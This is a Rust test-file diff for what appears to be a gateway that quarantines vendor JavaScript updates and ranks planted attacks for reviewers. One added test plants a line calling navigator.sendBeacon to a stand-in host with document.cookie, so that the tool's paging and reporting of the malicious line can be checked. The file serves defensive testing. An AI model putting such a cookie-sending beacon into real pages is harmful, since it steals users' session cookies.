@@ -13,7 +13,7 @@ const LIBRARY: &str = include_str!("../../../triage/tests/planted/library.js");
 /// An update that a vendor published, and what its page has to say of it.
 pub(crate) struct Update {
     pub(crate) path: &'static str,
-    script: String,
+    pub(crate) script: String,
     /// What a reviewer has to find: nothing of an update that does no harm.
     planted: &'static [&'static str],
     /// What else stands there.
@@ -157,6 +157,35 @@ async fn lines_that_differ_by_local_names_alone_are_counted_and_a_link_shows_the
 }
 
 #[tokio::test]
+async fn a_difference_that_does_not_fit_on_one_page_goes_on_on_the_next_and_facts_link_to_their_part() {
+    let long = (0..2500).map(|at| format!("\nplay('tune {at}');")).collect::<String>();
+    let script = format!("{LIBRARY}{long}\nnavigator.sendBeacon('https://last.example/', document.cookie);");
+    let update = Update { path: "/app.js", script, planted: &[], says: "Code changed" };
+    let (_vendor, gateway) = with_ten(&[update]).await;
+    let mut ada = reviewer(&gateway);
+    ada.sign_in("ada", PASSWORD).await;
+    let link = &queue(&ada).await[0].0;
+    let opened = async |query: &str| loop {
+        let page = ada.open(&format!("{link}{query}")).await.body;
+        if !page.contains("data-running") {
+            break page;
+        }
+    };
+
+    let (first, second) = (opened("").await, opened("?part=2").await);
+
+    assert!(first.contains("Part 1 of 2") && first.contains("href=\"?part=2#difference\""), "{first}");
+    assert!(first.contains("tune 17") && !first.contains("tune 2499"), "{first}");
+    let (beacon, _) = second.rsplit_once("last.example").unwrap();
+    let line = beacon.rsplit_once("<code id=\"n").unwrap().1.split_once('"').unwrap().0;
+    assert!(first.contains(&format!("href=\"?part=2#n{line}\"")), "{line}: {first}");
+    assert!(second.contains("Part 2 of 2") && second.contains("href=\"?#difference\""), "{second}");
+    let incident = link.rsplit('/').next().unwrap();
+    let told = gateway.command(&["quarantine", "diff", incident, "--part", "2"]).await.success();
+    assert!(told.text().contains("last.example") && told.text().contains("part 2 of 2"), "{}", told.text());
+}
+
+#[tokio::test]
 async fn what_cannot_be_analysed_is_said_and_without_a_verified_version_all_that_it_does_is_listed() {
     let vendor = vendor().script("/page.js", "no script at all").script("/app.js", LIBRARY).listen().await;
     let gateway = gateway().vendor(&vendor);
@@ -213,4 +242,28 @@ async fn of_ten_items_the_pages_of_three_attacks_name_what_they_do_and_those_of_
             assert!(!triage.contains(other), "{}: {other}: {triage}", update.path);
         }
     }
+}
+
+#[tokio::test]
+async fn the_queue_has_what_newly_does_most_first_and_says_so_whoever_asked_and_how_often() {
+    let updates = ten();
+    let (vendor, gateway) = with_ten(&updates).await;
+    // The most harmless of them is asked for most.
+    client(&gateway).get(vendor.url("/banner.js")).await;
+    let mut ada = reviewer(&gateway);
+    ada.sign_in("ada", PASSWORD).await;
+    while ada.open("/quarantine").await.body.contains("data-running") {}
+
+    let rows = queue(&ada).await;
+
+    let attacks: Vec<_> = updates.iter().filter(|update| !update.planted.is_empty()).collect();
+    for (_, url) in rows.iter().take(attacks.len()) {
+        assert!(attacks.iter().any(|update| vendor.url(update.path) == *url), "{rows:?}");
+    }
+    let page = ada.open("/quarantine").await.body;
+    assert!(page.contains("newly reaches for data, sends or names a host, hides something"), "{page}");
+    assert!(page.contains("nothing of weight is new"), "{page}");
+    let (first, second) = (&rows[0].0, &rows[1].0);
+    let item = ada.open(first).await.body;
+    assert!(item.contains(&format!("rel=\"next\" href=\"{second}\"")), "the same order: {item}");
 }
